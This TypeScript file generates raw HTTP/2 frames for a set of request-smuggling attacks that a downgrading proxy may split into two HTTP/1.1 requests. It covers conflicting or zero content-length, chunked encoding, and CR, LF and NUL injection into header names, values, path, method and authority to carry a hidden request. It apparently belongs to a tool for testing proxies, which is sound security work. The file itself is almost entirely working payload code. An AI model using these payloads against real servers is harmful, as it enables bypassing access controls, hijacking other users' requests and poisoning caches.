import type { Attack } from "./attacks.ts";
import { HOST, hiddenPath, openPath } from "./attacks.ts";

type Field = readonly [string, string];

const PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const [DATA, HEADERS, SETTINGS] = [0, 1, 4];
const [END_STREAM, END_HEADERS] = [1, 4];

/** Requests of HTTP/2, frame by frame, that a proxy may write down as two of HTTP/1.1. */
export function http2Attacks(): Attack[] {
  const attacks: Attack[] = [];
  const add = (name: string, fieldsOf: (id: string) => { fields: Field[]; body?: string }) => {
    const id = `h${attacks.length}`;
    const { fields, body = "" } = fieldsOf(id);
    attacks.push({ name: `HTTP/2: ${name}`, bytes: request(fields, body) });
  };
  const usual = (id: string, path = openPath(id)): Field[] => [
    [":method", "POST"],
    [":scheme", "https"],
    [":authority", HOST],
    [":path", path],
  ];
  const hidden = (id: string) => `GET ${hiddenPath(id)} HTTP/1.1\r\nHost: ${HOST}\r\n\r\n`;
  add("a length of nothing", (id) => ({ fields: [...usual(id), ["content-length", "0"]], body: hidden(id) }));
  add("a length that is too short", (id) => ({ fields: [...usual(id), ["content-length", "4"]], body: hidden(id) }));
  add("two lengths", (id) => ({
    fields: [...usual(id), ["content-length", "0"], ["content-length", String(hidden(id).length)]],
    body: hidden(id),
  }));
  add("chunks", (id) => ({ fields: [...usual(id), ["transfer-encoding", "chunked"]], body: `0\r\n\r\n${hidden(id)}` }));
  add("chunks and a length", (id) => {
    const body = `0\r\n\r\n${hidden(id)}`;
    return { fields: [...usual(id), ["transfer-encoding", "chunked"], ["content-length", String(body.length)]], body };
  });
  add("a connection that drops the length", (id) => ({
    fields: [...usual(id), ["connection", "content-length"], ["content-length", String(hidden(id).length)]],
    body: hidden(id),
  }));
  for (const [name, end] of [
    ["CRLF", "\r\n"],
    ["LF", "\n"],
    ["CR", "\r"],
    ["NUL", "\0"],
  ] as const) {
    const coding = `y${end}Transfer-Encoding: chunked${end}X: `;
    const whole = (id: string) => `y${end}Content-Length: 0${end}${end}${hidden(id)}`;
    add(`a header's value with ${name} and a coding`, (id) => ({
      fields: [...usual(id), ["x", coding]],
      body: `0\r\n\r\n${hidden(id)}`,
    }));
    add(`a header's value with ${name} and a request`, (id) => ({ fields: [...usual(id), ["x", whole(id)]] }));
    add(`a header's name with ${name}`, (id) => ({ fields: [...usual(id), [`x: ${whole(id)}x`, "y"]] }));
    add(`a path with ${name} and a request`, (id) => ({
      fields: usual(id, `${openPath(id)} HTTP/1.1${end}Host: ${HOST}${end}${end}GET ${hiddenPath(id)}`),
    }));
    add(`a method with ${name} and a request`, (id) => ({
      fields: [[":method", `GET ${hiddenPath(id)} HTTP/1.1${end}Host: ${HOST}${end}${end}POST`], ...usual(id).slice(1)],
    }));
    add(`a host with ${name} and a request`, (id) => ({
      fields: usual(id).map(([field, value]) => [
        field,
        field === ":authority" ? `${value}${end}${end}${hidden(id)}` : value,
      ]),
    }));
  }
  add("a path with spaces", (id) => ({ fields: usual(id, `${openPath(id)} ${hiddenPath(id)} HTTP/1.1`) }));
  return attacks;
}

function request(fields: readonly Field[], body: string): Buffer {
  const block = Buffer.concat(fields.map(literal));
  const head = frame(HEADERS, END_HEADERS | (body === "" ? END_STREAM : 0), 1, block);
  const data = body === "" ? Buffer.alloc(0) : frame(DATA, END_STREAM, 1, Buffer.from(body, "latin1"));
  return Buffer.concat([Buffer.from(PREFACE), frame(SETTINGS, 0, 0, Buffer.alloc(0)), head, data]);
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A field without index and without Huffman's code (RFC 7541, 6.2.2), so that any byte can stand in it. */
function literal([name, value]: Field): Buffer {
  return Buffer.concat([Buffer.from([0]), text(name), text(value)]);
}

function text(value: string): Buffer {
  const bytes = Buffer.from(value, "latin1");
  return Buffer.concat([lengthOf(bytes.length), bytes]);
}

/** An integer with a prefix of seven bits (RFC 7541, 5.1). */
function lengthOf(length: number): Buffer {
  if (length < 127) return Buffer.from([length]);
  const bytes = [127];
  let rest = length - 127;
  for (; rest >= 128; rest = Math.floor(rest / 128)) bytes.push((rest % 128) + 128);
  return Buffer.from([...bytes, rest]);
}
